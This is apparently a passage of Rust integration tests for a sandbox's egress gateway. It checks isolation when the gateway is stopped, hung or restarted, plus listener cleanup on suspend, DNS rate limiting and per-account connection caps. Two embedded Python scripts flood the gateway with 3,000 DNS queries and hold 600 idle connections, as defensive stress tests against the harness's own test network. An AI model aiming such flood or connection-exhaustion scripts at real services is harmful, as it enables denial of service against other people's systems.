    let ssh = |d: &Daemon, user: Option<&str>, args: &[&str]| run(&mut d.ssh(&env.alice, user, args));
    ssh(&daemon, None, &["new", "gw", "--image", "busybox"]).ok();
    ssh(&daemon, None, &["policy", "gw", "allow", "web.test"]).ok();
    let fetch = |d: &Daemon| ssh(d, Some("gw"), &["timeout 3 wget -q -O- http://web.test/through"]);
    assert_eq!(fetch(&daemon).ok().stdout, "GET /through host=web.test body=0\n");
    let gateway = gateway_pid(&daemon);
    let status = std::fs::read_to_string(format!("/proc/{gateway}/status")).unwrap();
    for (field, want) in [("Uid:", "1048574"), ("CapEff:", "0000000000000000"), ("NoNewPrivs:", "1"), ("Seccomp:", "2")]
    {
        let line = status.lines().find(|l| l.starts_with(field)).unwrap();
        assert!(line.contains(want), "{line}");
    }
    // Stopped, it answers nothing, and nothing gets out around it: not a
    // connection to the test internet's own address (which needs no name),
    // not a name to its resolver (a stopped gateway alone would fail the
    // fetch by name: what arrives is what tells).
    let pid = nix::unistd::Pid::from_raw(gateway as i32);
    nix::sys::signal::kill(pid, nix::sys::signal::Signal::SIGSTOP).unwrap();
    let stopped = fetch(&daemon);
    let mark = crate::fixture::unique("stopped");
    let around = format!("timeout 3 wget -q -O- http://{}/{mark}", crate::testnet::WEB);
    let by_address = ssh(&daemon, Some("gw"), &[&around]);
    let by_name = ssh(&daemon, Some("gw"), &[&format!("timeout 3 wget -q -O- http://{mark}.web.test/")]);
    nix::sys::signal::kill(pid, nix::sys::signal::Signal::SIGKILL).unwrap();
    assert_ne!(stopped.status, Some(0), "a box got out while its gateway was stopped");
    assert_ne!(by_address.status, Some(0), "the test internet answered while the gateway was stopped");
    assert_ne!(by_name.status, Some(0), "a name resolved while the gateway was stopped");
    assert!(crate::secrets::arrived(env, &mark).is_empty(), "a request got out while the gateway was stopped");
    assert!(!env.net.dns_queries().contains(&mark), "a name got out while the gateway was stopped");
    // Restarted, the same box gets out again within seconds.
    wait_for_egress(|| fetch(&daemon).status == Some(0));
    assert_ne!(gateway_pid(&daemon), gateway);
    // So does a running box after a daemon restart.
    daemon.restart();
    wait_for_egress(|| fetch(&daemon).status == Some(0));

    // A suspended box has no listener left (nothing, daemon or gateway,
    // holds one of its sockets), and has them again before it thaws: its
    // first command gets out, after a gateway restart and a daemon restart
    // too (which find the box suspended).
    let info = ssh(&daemon, None, &["info", "gw", "--json"]).ok().stdout;
    let id = serde_json::from_str::<serde_json::Value>(&info).unwrap()["id"].as_str().unwrap().to_string();
    let pid = crate::isolation::first_pid(&id);
    assert!(gateway_listeners(pid) >= 3, "a running box has the gateway's listeners");
    let suspend = |d: &Daemon| {
        ssh(d, None, &["suspend", "gw"]).ok();
        let deadline = Instant::now() + Duration::from_secs(5);
        while gateway_listeners(pid) > 0 {
            assert!(Instant::now() < deadline, "a suspended box still has {} listeners", gateway_listeners(pid));
            std::thread::sleep(Duration::from_millis(20));
        }
    };
    suspend(&daemon);
    assert_eq!(fetch(&daemon).ok().stdout, "GET /through host=web.test body=0\n");
    suspend(&daemon);
    let gateway = gateway_pid(&daemon);
    nix::sys::signal::kill(nix::unistd::Pid::from_raw(gateway as i32), nix::sys::signal::Signal::SIGKILL).unwrap();
    while gateway_pid(&daemon) == gateway {
        std::thread::sleep(Duration::from_millis(50));
    }
    assert_eq!(fetch(&daemon).ok().stdout, "GET /through host=web.test body=0\n");
    // Suspended and resumed while the gateway hangs (it never lets the old
    // ports go): nothing gets out, and once the hung gateway is replaced,
    // the box is served again.
    let gateway = gateway_pid(&daemon);
    let gateway_pid_t = nix::unistd::Pid::from_raw(gateway as i32);
    nix::sys::signal::kill(gateway_pid_t, nix::sys::signal::Signal::SIGSTOP).unwrap();
    ssh(&daemon, None, &["suspend", "gw"]).ok();
    let hung = fetch(&daemon);
    nix::sys::signal::kill(gateway_pid_t, nix::sys::signal::Signal::SIGKILL).unwrap();
    assert_ne!(hung.status, Some(0), "a box got out while its gateway hung");
    wait_for_egress(|| fetch(&daemon).status == Some(0));
    suspend(&daemon);
    daemon.restart();
    assert_eq!(gateway_listeners(pid), 0, "a box found suspended at start got listeners");
    assert_eq!(fetch(&daemon).ok().stdout, "GET /through host=web.test body=0\n");
    daemon.purge();
}

/// How many of the gateway's listeners (DNS over UDP and TCP, the proxy)
/// are bound in the network namespace of process `pid`.
fn gateway_listeners(pid: u32) -> usize {
    let ports = [moat_core::egress::DNS_PORT, moat_core::egress::PROXY_PORT].map(|p| format!(":{p:04X}"));
    let mut bound = 0;
    for table in ["tcp", "tcp6", "udp", "udp6"] {
        let text = std::fs::read_to_string(format!("/proc/{pid}/net/{table}")).unwrap_or_default();
        for line in text.lines().skip(1) {
            let fields: Vec<&str> = line.split_whitespace().collect();
            let (Some(local), Some(state)) = (fields.get(1), fields.get(3)) else { continue };
            // A TCP socket that listens (0A), or any bound UDP one.
            let listens = table.starts_with("udp") || *state == "0A";
            if listens && ports.iter().any(|p| local.ends_with(p.as_str())) {
                bound += 1;
            }
        }
    }
    bound
}

pub(crate) fn wait_for_egress(works: impl Fn() -> bool) {
    let deadline = Instant::now() + Duration::from_secs(10);
    while !works() {
        assert!(Instant::now() < deadline, "egress did not come back");
        std::thread::sleep(Duration::from_millis(200));
    }
}

/// The daemon's gateway process.
pub(crate) fn gateway_pid(daemon: &Daemon) -> u32 {
    let deadline = Instant::now() + Duration::from_secs(5);
    loop {
        let children =
            std::fs::read_to_string(format!("/proc/{0}/task/{0}/children", daemon.pid())).unwrap_or_default();
        for pid in children.split_whitespace().filter_map(|p| p.parse::<u32>().ok()) {
            let comm = std::fs::read_to_string(format!("/proc/{pid}/comm")).unwrap_or_default();
            if comm.trim() == "moat-gateway" {
                return pid;
            }
        }
        assert!(Instant::now() < deadline, "no gateway process");
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// A box flooding DNS loses its own entries, not another's: past a burst,
/// its queries are logged at a rate and the rest counted; its allowed
/// connection is logged whatever it did before.
pub fn a_flooding_box_loses_only_its_own_entries(env: &Env) {
    let name = unique("flood");
    env.new_box(&name, &[]);
    env.alice(None, &["policy", &name, "allow", "web.test:80"]).ok();
    // Each query waits for its answer: none is lost in a full socket
    // buffer on a busy host, so each reaches the gateway to be counted.
    let flood = "import socket, time\n\
         ns = [l.split()[1] for l in open(\"/etc/resolv.conf\") if l.startswith(\"nameserver\")][0]\n\
         s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
         s.settimeout(5)\n\
         t = time.monotonic()\n\
         for i in range(3000): s.sendto(b\"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x01x\\x04test\\x00\\x00\\x01\\x00\\x01\", (ns, 53)); s.recv(512)\n\
         print(time.monotonic() - t)\n";
    let (status, took) = sh(env, &name, &format!("python3 -c '{flood}'"));
    assert_eq!(status, Some(0), "{took}");
    let took: f64 = took.trim().parse().unwrap();
    std::thread::sleep(Duration::from_millis(1500));
    let (status, out) = sh(env, &name, "curl -sS -m 10 http://web.test/after");
    assert_eq!((status, out.as_str()), (Some(0), "GET /after host=web.test body=0\n"));
    let deadline = Instant::now() + Duration::from_secs(20);
    let text = loop {
        let text = log(env, &name);
        if text.contains("allow http web.test:80 GET /after") {
            break text;
        }
        assert!(Instant::now() < deadline, "the box's request was not logged:\n{text}");
        std::thread::sleep(Duration::from_millis(200));
    };
    let logged = text.lines().filter(|l| l.contains(" x.test")).count();
    let most = 1000 + (100.0 * (took + 2.0)) as usize;
    assert!((1000..=most).contains(&logged), "{logged} of 3000 queries logged in {took:.2} s");
    assert!(text.contains("queries and refusals of this box not logged: more than 100 a second"), "{text}");
    env.alice(None, &["rm", &name]).ok();
}

/// One account's boxes hold at most their share of the gateway's
/// connections (a quarter of what its descriptor limit allows, or a box's
/// 512), and another account's box still gets out meanwhile.
pub fn one_account_cannot_starve_the_others(env: &Env) {
    let limits = std::fs::read_to_string(format!("/proc/{}/limits", env.daemon.pid())).unwrap();
    let soft: usize = limits
        .lines()
        .find(|l| l.starts_with("Max open files"))
        .and_then(|l| l.split_whitespace().nth(3)?.parse().ok())
        .unwrap();
    let share = (soft / 2 / 8 / 4).clamp(16, 512);
    let bob = |user: Option<&str>, args: &[&str]| run(&mut env.daemon.ssh(&env.bob, user, args));
    let greedy = unique("greedy");
    assert_eq!(bob(None, &["new", &greedy]).ok().stdout.trim(), greedy);
    bob(None, &["policy", &greedy, "allow", "web.test:80"]).ok();
    let victim = unique("victim");
    env.new_box(&victim, &[]);
    env.alice(None, &["policy", &victim, "allow", "web.test:80"]).ok();
    // Connections that send nothing: each holds a place while the gateway
    // waits for its request.
    // Those the gateway refused it closed: they read as ready (at EOF).
    let hold = "import socket, time, select, sys\n\
         held = [socket.create_connection((\"web.test\", 80)) for i in range(600)]\n\
         time.sleep(1.5)\n\
         closed = select.select(held, [], [], 0)[0]\n\
         print(len(held) - len(closed)); sys.stdout.flush(); time.sleep(8)\n";
    let mut cmd = env.daemon.ssh(&env.bob, Some(&greedy), &[&format!("python3 -c '{hold}'")]);
    let (mut child, _stdin, lines) = spawn_with_lines(&mut cmd);
    let held: usize = lines.recv_timeout(Duration::from_secs(60)).unwrap().trim().parse().unwrap();
    let (status, out) = sh(env, &victim, "curl -sS -m 10 http://web.test/meanwhile");
    assert_eq!((status, out.as_str()), (Some(0), "GET /meanwhile host=web.test body=0\n"));
    let _ = child.wait();
    assert_eq!(held, share, "connections held of 600 (limit {soft} descriptors)");
    let text = bob(None, &["log", &greedy]).ok().stdout;
    let why =
        if share < 512 { "its account's boxes have too many open connections" } else { "too many open connections" };
    assert!(text.contains(why), "{text}");
    bob(None, &["rm", &greedy]).ok();
    env.alice(None, &["rm", &victim]).ok();
}
